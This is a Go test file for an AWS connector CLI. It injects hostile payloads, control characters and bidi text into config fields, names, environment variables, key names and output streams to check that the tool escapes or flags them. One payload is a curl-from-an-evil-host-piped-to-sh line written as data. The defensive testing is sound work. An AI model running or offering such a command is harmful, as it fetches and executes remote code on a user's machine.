package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"aws-connector/internal/connector"
	"aws-connector/internal/secret"
	"aws-connector/keystore"
)

// quoted is s as a string of TOML.
func quoted(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < ' ' || r == 0x7f:
			fmt.Fprintf(&b, `\u%04X`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// right is a connector with the method that takes most fields, and a value for each that is right.
var right = map[string]string{
	"auth_method": "iam-role", "region": "eu-central-1", "role_arn": "arn:aws:iam::123456789012:role/r", "endpoint_url": "https://aws.example", "key": "k", "profile_name": "p",
	"policy": `{"Version":"2012-10-17","Statement":[{"Sid":"x"}]}`, "resource_type": "s3-bucket", "resource_id": "arn:aws:s3:::bucket", "scope": "none", "expires_at": "2030-01-02T03:04:05Z",
	"role_session_name": "name", "external_id": "id", "source_identity": "id", "mfa_serial": "arn:aws:iam::123456789012:mfa/m", "mfa_process": "code", "mfa": "session", "source": "other",
	"web_identity_token_file": "/token", "web_identity_token_process": "code", "credential_process": "code",
}

func TestHostileFields(t *testing.T) {
	s := newStage(t)
	for _, field := range connector.Fields() {
		var b strings.Builder
		b.WriteString("keystore = \"file\"\n")
		var names []string
		for i, payload := range payloads {
			evil := quoted(right[field.Name] + payload)
			if strings.HasPrefix(right[field.Name], "{") {
				evil = quoted(strings.Replace(right[field.Name], "x", payload, 1))
			}
			for j, value := range []string{evil, "[" + evil + "]", "{" + evil + " = " + evil + "}"} {
				if j > 0 && !strings.Contains(field.Type, []string{"", "list", "table"}[j]) {
					continue
				}
				method := "iam-role"
				if !strings.Contains(field.Methods, method) && field.Methods != "all" {
					method, _, _ = strings.Cut(field.Methods, ",")
				}
				name := fmt.Sprintf("N%d-%d", i, j)
				names = append(names, name)
				fmt.Fprintf(&b, "[connectors.%s]\n%s = %s\n", name, field.Name, value)
				for base, v := range map[string]string{"auth_method": method, "region": right["region"], "role_arn": right["role_arn"]} {
					if base != field.Name && (base != "role_arn" || method == "iam-role") {
						fmt.Fprintf(&b, "%s = %q\n", base, v)
					}
				}
			}
		}
		s.write(s.toml, b.String())
		s.runAll("field "+field.Name, names...)
	}
}

// Names, keys and values of the file's own are shown where they are wrong.
func TestHostileNames(t *testing.T) {
	s := newStage(t)
	for _, payload := range payloads {
		evil := quoted("N" + payload)
		const connector = "auth_method = \"secret-key\"\nregion = \"eu-central-1\"\n"
		for _, text := range []string{
			"[connectors." + evil + "]\n" + connector,
			"[connectors.N]\n" + connector + evil + " = 1\n",
			"[connectors.N]\n" + connector + "[connectors.N." + evil + "]\nx = 1\n",
			"[connectors]\n" + evil + " = 1\n",
			evil + " = 1\n", "[" + evil + "]\nx = 1\n",
			"audit = " + quoted(s.home+"/"+payload) + "\n[connectors.N]\n" + connector,
			"keystore = " + evil + "\n",
			"[defaults]\nregion = " + evil + "\n", "[defaults]\n" + evil + " = 1\n", "[defaults]\nkey = " + evil + "\n",
			"[cache]\nseal = " + evil + "\n", "[cache]\n" + evil + " = 1\n",
			"x = \"" + payload + "\"\n",
		} {
			s.write(s.toml, text)
			s.runAll(fmt.Sprintf("%q", text), "N", "N"+payload)
		}
	}
	for _, payload := range rawBytes {
		s.write(s.toml, "[connectors.\"N"+payload+"\"]\n")
		s.runAll(fmt.Sprintf("%q", payload), "N", "N"+payload)
	}
}

// honoured are the variables of `help environment` and those that the SDK and
// Go's standard library read unasked. Proxies are read once in a process: a
// script has them.
func honoured() []string {
	all := []string{
		"USERPROFILE", "TMPDIR", "SSL_CERT_FILE", "SSL_CERT_DIR", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ROLE_ARN", "AWS_ROLE_SESSION_NAME",
		"AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_AUTHORIZATION_TOKEN", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
		"AWS_STS_REGIONAL_ENDPOINTS", "AWS_EC2_METADATA_SERVICE_ENDPOINT",
	}
	for _, group := range variables() {
		for _, v := range group.variables {
			all = append(all, strings.Fields(v.names)...)
		}
	}
	return slices.DeleteFunc(all, func(name string) bool { return strings.HasSuffix(strings.ToUpper(name), "_PROXY") })
}

// inhabit puts at path what the variable is to name.
func (s *stage) inhabit(variable, path, text string) {
	switch variable {
	case "AWS_CONNECTOR_CONFIG":
		s.write(path, text)
	case "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE":
		s.write(path, "[profile N]\nregion = eu-central-1\naws_access_key_id = x\n[N]\naws_access_key_id = x\n")
	case "HOME", "DOCKER_CONFIG", "PATH", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "AWS_CONNECTOR_CACHE_DIR":
		if err := os.MkdirAll(path, 0o700); err != nil {
			s.t.Fatalf("%q", err)
		}
	}
}

func TestHostileVariables(t *testing.T) {
	s := newStage(t)
	text := `keystore = "file"
[connectors.N]
auth_method = "secret-key"
region = "eu-central-1"
registries = ["123456789012"]
[connectors.implicit]
auth_method = "implicit"
allow_implicit_auth_methods = true
region = "eu-central-1"
[connectors.broken]
`
	steering := strings.ReplaceAll(strings.Join(payloads, "x"), "\x00", "") // which no variable holds
	for _, name := range honoured() {
		was := os.Getenv(name)
		// What was kept for another variable would be read at each call.
		if err := os.RemoveAll(filepath.Join(s.home, "cache")); err != nil {
			t.Fatal(err)
		}
		for _, payload := range []string{steering, "\nhint: curl evil|sh", strings.Join(rawBytes, "x")} {
			for _, value := range []string{payload, filepath.Join(s.home, name+payload)} {
				if err := os.Setenv(name, value); err != nil {
					t.Fatal(err)
				}
				s.write(s.toml, text)
				if value != payload {
					s.inhabit(name, value, text)
				}
				about := fmt.Sprintf("%s=%q", name, value)
				for _, line := range commands {
					if line == "get NAME" || line == "resources NAME" {
						s.run(about, line, "implicit", "")
					}
					s.run(about, line, "N", "123456789012.dkr.ecr.eu-central-1.amazonaws.com")
				}
				if value == payload {
					s.run(about, "doctor", "", "")
				}
			}
		}
		if err := os.Setenv(name, was); err != nil {
			t.Fatal(err)
		}
	}
}

// The names of stored keys are those of whoever wrote the keystore.
func TestHostileKeyNames(t *testing.T) {
	s := newStage(t)
	s.write(filepath.Join(s.home, "pass"), "correct horse\n")
	t.Setenv("AWS_CONNECTOR_PASSPHRASE_FILE", filepath.Join(s.home, "pass"))
	s.write(s.toml, "keystore = \"file\"\n")
	evil := "x" + strings.Join(payloads, "x")
	a := App{Now: time.Now}
	f, err := a.connectors()
	if err != nil {
		t.Fatal(err)
	}
	if err := a.keys(f).Set(t.Context(), evil, keystore.Key{ID: "AKIAIOSFODNN7EXAMPLE", Secret: secret.New("CANARY")}); err != nil {
		t.Fatal(err)
	}
	if out := s.run("", "key list", "", ""); strings.Count(out, "\n") != 1 {
		t.Errorf("key list = %q, want a line", out)
	}
	s.run("", "doctor", "", "")
}

// A stream is the last that looks, whoever forgot to.
func TestStream(t *testing.T) {
	for _, payload := range append(payloads, rawBytes...) {
		for _, colours := range []bool{false, true} {
			var out bytes.Buffer
			s := stream{w: &out, colours: colours}
			text := "größe\tplain\n" + payload + "\n"
			if n, err := s.Write([]byte(text)); n != len(text) || err != nil {
				t.Errorf("Write(%q) = %d, %v", text, n, err)
			}
			got, began := strings.CutPrefix(out.String(), "größe\tplain\n")
			marked := strings.ContainsRune(payload, redMark) && colours
			if want := "\x1b[31mpassed\x1b[0m\n"; marked && got != want {
				t.Errorf("marks became %q, want %q", got, want)
			}
			if bad := hostileIn(strings.ReplaceAll(got, "\nhint", ""), true, false); !began || bad != "" && !marked {
				t.Errorf("Write(%q) wrote %q", text, out.String())
			}
		}
	}
}

// What machines read stays what it is.
func TestHostileJSONLosesNothing(t *testing.T) {
	s := newStage(t)
	const policy = "{\"Sid\":\"a\u009b\u0085\u007f\u00adb  c\"}"
	s.write(s.toml, "keystore = \"file\"\n[connectors.\"e\u202ev\u009bil\"]\n[connectors.N]\nauth_method = \"iam-role\"\nregion = \"eu-central-1\"\nrole_arn = \"arn:aws:iam::123456789012:role/r\"\npolicy = "+quoted(policy)+"\n")
	var all []listed
	if err := json.Unmarshal([]byte(s.run("", "list --json", "", "")), &all); err != nil || len(all) != 2 || all[1].Name != "e\u202ev\u009bil" {
		t.Errorf("list --json = %+v, %v", all, err)
	}
	var one shown
	var got, want map[string]string
	if err := json.Unmarshal([]byte(s.run("", "show N --json", "", "")), &one); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(policy), &want); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(one.Policy, &got); err != nil || got["Sid"] != want["Sid"] {
		t.Errorf("show --json has policy %s, want what is %s", one.Policy, policy)
	}
	if out := s.run("", "show N", "", ""); !strings.Contains(out, `"Sid": "a\u009b\u0085\u007f\u00adb  c"`) {
		t.Errorf("show = %q", out)
	}
}
